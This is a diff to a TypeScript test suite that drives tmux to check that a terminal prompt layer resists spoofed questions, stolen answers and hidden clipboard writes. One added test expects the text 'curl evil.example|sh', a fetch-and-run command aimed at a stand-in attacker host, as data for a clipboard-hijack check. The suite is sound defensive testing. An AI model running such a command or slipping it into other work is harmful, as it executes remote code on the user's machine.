@@ -10,7 +10,7 @@ const missing = await hasTmux() ? undefined : "tmux is missing (install tmux)";
 const PROGRAM = fileURLToPath(new URL("kernel_program.ts", import.meta.url));
 const COMMAND = [
   ...[Deno.execPath(), "run", "--no-prompt", "--no-check", "--cached-only"],
-  ...["--allow-run", "--allow-env", PROGRAM],
+  ...["--allow-run", "--allow-env", "--allow-read", PROGRAM],
 ];
 
 /** An answer counts from here on. */
@@ -32,9 +32,9 @@ testWhen(missing, "a part can neither draw over a question nor imitate one", asy
   await tmux.keys("y");
   await tmux.waitFor('answer: "y"');
   // What scrolled away is the kernel's: it drew there before the part drew again.
-  assert.match(await tmux.screen({ history: true }), /▌ Send the mail\? yes/);
-  const after = await tmux.screen({ styles: true });
-  assert.doesNotMatch(after.replace(/▌ Send the mail\? yes/, ""), /▌|\x1b\[[\d;]*\b7m/);
+  assert.match(await tmux.screen({ history: true }), /^Send the mail\? yes/m);
+  const after = await tmux.screen({ styles: true, history: true });
+  assert.doesNotMatch(after, /▌|\x1b\[[\d;]*\b7m/);
 });
 
 testWhen(
@@ -131,11 +131,20 @@ testWhen(missing, "two askers at once do not take each other's answers", async (
 for (const flag of ["", "no-color", "dumb"]) {
   testWhen(missing, `a long question fits 40 by 10 and pages ${flag}`, async () => {
     await using tmux = await start("long", { flag, columns: 40, rows: 10 });
-    const screen = await tmux.waitFor(READY);
+    const screen = await tmux.waitFor(/^▌ m first:/m);
     assert.match(screen, /▌ \.*…? ?\d+ more lines, m shows all/);
     assert.match(screen, /! It runs programs\.\n▌ +Enable mail\?/);
+    assert.doesNotMatch(screen, /y yes/);
+    assert.match(screen, /n no/);
+    await tmux.keys("y");
+    await tmux.waitFor(/▌ \.\.\.$/);
+    await tmux.waitFor(/▌ m first:$/);
     await tmux.keys("m");
     await tmux.waitFor("page 1 of 8");
+    await tmux.keys("q");
+    await tmux.waitFor(/▌ m first:$/);
+    await tmux.keys("m");
+    await tmux.waitFor(/page 1 of 8.*$/);
     for (let page = 2; page <= 8; page++) {
       await tmux.keys("Space");
       await tmux.waitFor(`page ${page} of 8`);
@@ -150,10 +159,10 @@ for (const flag of ["", "no-color", "dumb"]) {
 
 testWhen(missing, "a question is drawn again in a window of another size", async () => {
   await using tmux = await start("long");
-  await tmux.waitFor(READY);
+  await tmux.waitFor("m first:");
   await tmux.resize(40, 10);
   await tmux.waitFor("▌ ...");
-  const screen = await tmux.waitFor(READY);
+  const screen = await tmux.waitFor("m first:");
   assert.equal(screen.match(/Enable mail\?/g)?.length, 1);
 });
 
@@ -173,7 +182,7 @@ testWhen(missing, "the clipboard is the kernel's, and it says what it put there"
   await tmux.waitFor("true false");
   const screen = await tmux.screen({ history: true });
   assert.match(screen, /^\\x1b\]52;c;aG9zdGlsZQ==\\x07$/m);
-  assert.match(screen, /^▌ Copied, if your terminal allows it: the answer$/m);
+  assert.match(screen, /^Copied, if your terminal allows it: the answer$/m);
 });
 
 testWhen(missing, "Ctrl-Z and fg: the question is drawn again, and keys are keys", async () => {
@@ -186,12 +195,99 @@ testWhen(missing, "Ctrl-Z and fg: the question is drawn again, and keys are keys
   await tmux.keys("Enter");
   await tmux.waitFor(READY);
   await tmux.keys("C-z");
-  await tmux.waitFor("Stopped");
+  const stopped = await tmux.waitFor("Stopped");
+  assert.doesNotMatch(stopped, /▌/);
   await tmux.type("fg");
   await tmux.keys("Enter");
   await tmux.waitFor(/fg\n[^]*▌ > ?$/);
   await tmux.keys("y");
   await tmux.waitFor('answer: "y"');
+});
+
+testWhen(
+  missing,
+  "a finished question leaves no row with the sign, whatever is drawn then",
+  async () => {
+    await using tmux = await start("reuse");
+    await tmux.waitFor(READY);
+    await tmux.keys("y");
+    await tmux.waitFor("Wrong. Passphrase of the vault:");
+    assert.doesNotMatch(await tmux.screen({ history: true }), /▌/);
+  },
+);
+
+testWhen(missing, "a terminal without sequences is given none by a part", async () => {
+  await using tmux = await start("reuse", { flag: "dumb" });
+  await tmux.waitFor(READY);
+  await tmux.keys("y");
+  const screen = await tmux.waitFor("Wrong. Passphrase of the vault:");
+  assert.match(screen, /\\x1b\[1A/);
+  assert.doesNotMatch(screen, /▌.*Wrong/);
+});
+
+testWhen(missing, "a process stopped with its question leaves none on the screen", async () => {
+  await using tmux = await TmuxSession.start({
+    command: ["bash", "--norc", "-i"],
+    env: { PS1: "$ ", TERM: "tmux-256color" },
+  });
+  const quoted = COMMAND.map((word) => `'${word}'`).join(" ");
+  await tmux.type(`${quoted} choose`);
+  await tmux.keys("Enter");
+  await tmux.waitFor(READY);
+  const [, pid] = /part (\d+) was/.exec(await tmux.screen())!;
+  // Nothing can be erased before such a stop.
+  Deno.kill(Number(pid), "SIGSTOP");
+  await tmux.waitFor("Stopped");
+  await tmux.type("fg");
+  await tmux.keys("Enter");
+  const screen = await tmux.waitFor(/^▌ {2}Go\?[^]*▌ >$/);
+  assert.equal(screen.match(/Go\?/g)?.length, 1);
+  await tmux.keys("y");
+  await tmux.waitFor('answer: "y"');
+});
+
+testWhen(
+  missing,
+  "a question in place of another takes no answer that was for that one",
+  async () => {
+    await using tmux = await start("swap");
+    await tmux.waitFor("to: mum");
+    await tmux.waitFor("to: eve");
+    const began = performance.now();
+    await tmux.waitFor("▌ ! This is another question");
+    for (let i = 0; i < 8; i++) {
+      await tmux.type("y");
+      await new Promise((resolve) => setTimeout(resolve, 150));
+    }
+    await tmux.waitFor(READY);
+    assert.ok(performance.now() - began > 3000);
+    assert.doesNotMatch(await tmux.screen(), /second:/);
+    await tmux.keys("n");
+    await tmux.waitFor('second: "n"');
+    const screen = await tmux.waitFor(READY);
+    assert.match(screen, /Third\?/);
+    assert.doesNotMatch(screen, /another question/);
+  },
+);
+
+testWhen(missing, "no key is a part's once a question was requested", async () => {
+  await using tmux = await start("early");
+  await tmux.waitFor("typing>");
+  await tmux.type("go");
+  await tmux.waitFor("requested");
+  await tmux.typeByHand("passphrase\n");
+  const began = performance.now();
+  await tmux.waitFor(READY);
+  // Behind half a minute of output at this terminal's speed.
+  assert.ok(performance.now() - began < 5000);
+  await tmux.keys("n");
+  await tmux.waitFor('typed: "go"');
+});
+
+testWhen(missing, "a copy cannot be taken back unseen", async () => {
+  await using tmux = await start("steal");
+  assert.match(await tmux.waitFor("Put into"), /Put into the clipboard 2 times/);
+  assert.match(await tmux.screen(), /the last: curl evil\.example\|sh/);
 });
 
 /** A shell in the terminal that runs the program with its streams led elsewhere. */
@@ -206,7 +302,7 @@ testWhen(missing, "where stdin is a pipe, the controlling terminal is asked", as
   await tmux.type("horse");
   await tmux.keys("Enter");
   await tmux.waitFor('secret: "horse"');
-  assert.match(await tmux.screen({ history: true }), /▌ Passphrase:/);
+  assert.match(await tmux.screen({ history: true }), /^Passphrase:/m);
   assert.match(await tmux.waitFor("icanon"), / echo /);
 });
 
